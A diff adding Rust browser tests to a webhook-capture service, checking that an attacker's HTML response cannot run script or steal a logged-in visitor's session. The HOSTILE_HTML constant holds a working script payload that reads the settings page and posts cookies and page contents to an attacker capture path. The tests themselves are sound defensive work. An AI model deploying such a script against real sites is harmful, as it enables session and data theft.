@@ -321,6 +321,220 @@ async fn a_new_user_sees_a_capture_appear_live_and_its_payload_is_shown_as_text(
     );
 }
 
+/// A custom response an attacker could set: HTML whose script, if it ever ran on the dashboard's
+/// origin, would read the visitor's settings page and post it (with the cookies) to the
+/// attacker's own capture URL. Synchronous requests, so a theft would be stored before the page
+/// finished loading.
+const HOSTILE_HTML: &str = r#"<!doctype html><html><head><title>inert capture</title></head><body>
+<p>hello</p>
+<script>
+document.title = "script ran";
+try {
+  var s = new XMLHttpRequest(); s.open("GET", "/settings", false); s.send();
+  var x = new XMLHttpRequest(); x.open("POST", location.pathname + "/stolen", false);
+  x.send(document.cookie + "\n" + s.responseText);
+} catch (e) {}
+</script>
+<img src="x" onerror="document.title = 'handler ran'">
+</body></html>"#;
+
+#[tokio::test]
+async fn a_logged_in_user_following_a_link_to_a_hostile_capture_url_on_the_dashboard_origin_runs_no_script_and_leaks_no_session(
+) {
+    let app = TestApp::spawn().await;
+    a_visitor_follows_a_link_to_a_hostile_capture_url(&app, true).await;
+}
+
+#[tokio::test]
+async fn a_logged_in_user_following_a_link_to_a_hostile_capture_url_on_its_own_capture_origin_runs_no_script_and_sends_no_session(
+) {
+    // Dashboard on http://127.0.0.1:PORT, capture URLs on http://localhost:PORT.
+    let app = TestApp::spawn_two_origins().await;
+    let Some(capture_url) = a_visitor_follows_a_link_to_a_hostile_capture_url(&app, false).await
+    else {
+        return;
+    };
+    assert!(
+        capture_url.starts_with("http://localhost:"),
+        "{capture_url}"
+    );
+    // And the dashboard's own host does not serve that capture URL at all.
+    let path = &capture_url[capture_url.find("/in/").expect("a capture URL")..];
+    let r = crate::common::browser::api_client()
+        .get(app.at(path))
+        .send()
+        .await
+        .expect("GET on the dashboard host");
+    assert_eq!(r.status(), 404, "/in/… on the dashboard's host");
+}
+
+/// The scenario of issue 10: an attacker's endpoint answers `text/html` with a script; a user
+/// logged in to the dashboard follows a link (from another site) to that capture URL. The
+/// attacker's captures must never contain the visitor's session id, and no script may run.
+/// `cookie_reaches_capture`: the capture URL is on the dashboard's host, so the browser does
+/// send the session cookie (and capture must replace it).
+async fn a_visitor_follows_a_link_to_a_hostile_capture_url(
+    app: &TestApp,
+    cookie_reaches_capture: bool,
+) -> Option<String> {
+    let tools = BrowserTools::find()?;
+    let (_, attacker) = app.account("attacker@example.com").await;
+    let (endpoint, capture_url) = app.create_endpoint(&attacker, "trap").await;
+    let r = app
+        .api(
+            reqwest::Method::PATCH,
+            &attacker,
+            &format!("/api/v1/endpoints/{endpoint}"),
+        )
+        .json(&json!({"response": {
+            "status": 200,
+            "content_type": "text/html; charset=utf-8",
+            "body": HOSTILE_HTML,
+        }}))
+        .send()
+        .await
+        .expect("PATCH endpoint");
+    assert_eq!(
+        r.status(),
+        200,
+        "text/html with a script is an allowed response"
+    );
+    app.account("victim@example.com").await;
+
+    let mut driver = ChromeDriver::start(&tools).await;
+    let c = driver.connect(&tools).await;
+    c.goto(&app.at("/login")).await.expect("open /login");
+    let email = eventually!("the login form", input_labelled(&c, "Email", "email").await);
+    email
+        .send_keys("victim@example.com")
+        .await
+        .expect("type email");
+    input_labelled(&c, "Password", "password")
+        .await
+        .expect("Password field")
+        .send_keys(crate::common::browser::PASSWORD)
+        .await
+        .expect("type password");
+    button(&c, "Log in")
+        .await
+        .click()
+        .await
+        .expect("click Log in");
+    eventually!(
+        "the dashboard after logging in",
+        at_path(&c, |p| p == "/").await
+    );
+    let session = c
+        .get_named_cookie("hookvault")
+        .await
+        .expect("the browser holds the session cookie")
+        .value()
+        .to_string();
+    assert!(session.len() > 10, "a real session id: {session:?}");
+
+    // A link on another site; the victim clicks it (a top-level navigation, which SameSite=Lax
+    // cookies accompany).
+    let link_page = link_server(&capture_url).await;
+    c.goto(&link_page).await.expect("open the link page");
+    c.find(Locator::Id("go"))
+        .await
+        .expect("the link")
+        .click()
+        .await
+        .expect("follow the link");
+    eventually!("the capture URL to load", {
+        match c.current_url().await {
+            Ok(u) if u.as_str() == capture_url => Ok(()),
+            Ok(u) => Err(u.to_string()),
+            Err(e) => Err(e.to_string()),
+        }
+    });
+    let title = eventually!("the hostile page to finish loading", {
+        match c.title().await {
+            Ok(t) if !t.is_empty() => Ok(t),
+            Ok(t) => Err(format!("title {t:?}")),
+            Err(e) => Err(e.to_string()),
+        }
+    });
+    assert_eq!(
+        title, "inert capture",
+        "the hostile page's script or handler ran"
+    );
+    let shot = c.screenshot().await.expect("screenshot");
+    std::fs::write(
+        PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("browser-hostile-capture.png"),
+        shot,
+    )
+    .expect("write screenshot");
+    driver.close(c).await;
+
+    // What the attacker can read: exactly the visitor's navigation, without the session.
+    let list = app
+        .api_json(&attacker, &format!("/api/v1/endpoints/{endpoint}/requests"))
+        .await;
+    let captures = list["requests"].as_array().expect("requests");
+    let paths: Vec<&str> = captures
+        .iter()
+        .map(|r| r["path"].as_str().unwrap_or("?"))
+        .collect();
+    assert!(
+        paths.len() == 1 && !paths[0].contains("stolen"),
+        "only the navigation was captured (no theft): {paths:?}"
+    );
+    let id = captures[0]["id"].as_str().expect("id");
+    let full = app
+        .api_json(&attacker, &format!("/api/v1/requests/{id}"))
+        .await;
+    let text = full.to_string();
+    assert!(
+        !text.contains(&session),
+        "the visitor's session id is in the attacker's capture: {text}"
+    );
+    let cookies: Vec<String> = full["headers"]
+        .as_array()
+        .expect("headers")
+        .iter()
+        .filter(|h| {
+            h[0].as_str()
+                .is_some_and(|n| n.eq_ignore_ascii_case("cookie"))
+        })
+        .map(|h| h[1].as_str().unwrap_or_default().to_string())
+        .collect();
+    if cookie_reaches_capture {
+        assert_eq!(
+            cookies,
+            ["hookvault=[removed by Hookvault: dashboard session]"],
+            "the browser sent the session and capture replaced it"
+        );
+    } else {
+        assert!(
+            cookies.is_empty(),
+            "the capture origin never receives the dashboard's cookie: {cookies:?}"
+        );
+    }
+    Some(capture_url)
+}
+
+/// A page on another site (`localhost` rather than `127.0.0.1`) with one link, `#go`.
+async fn link_server(target: &str) -> String {
+    let html = format!(
+        "<!doctype html><title>elsewhere</title><a id=\"go\" href=\"{target}\">a webhook</a>"
+    );
+    let app = axum::Router::new().route(
+        "/",
+        axum::routing::get(move || {
+            let html = html.clone();
+            async move { axum::response::Html(html) }
+        }),
+    );
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
+        .await
+        .expect("bind");
+    let port = listener.local_addr().expect("addr").port();
+    tokio::spawn(async move { axum::serve(listener, app).await });
+    format!("http://localhost:{port}/")
+}
+
 /// Nothing from the captured payload ran or became an element.
 async fn assert_no_injected_markup(c: &Client, page: &str) {
     let pwned = c
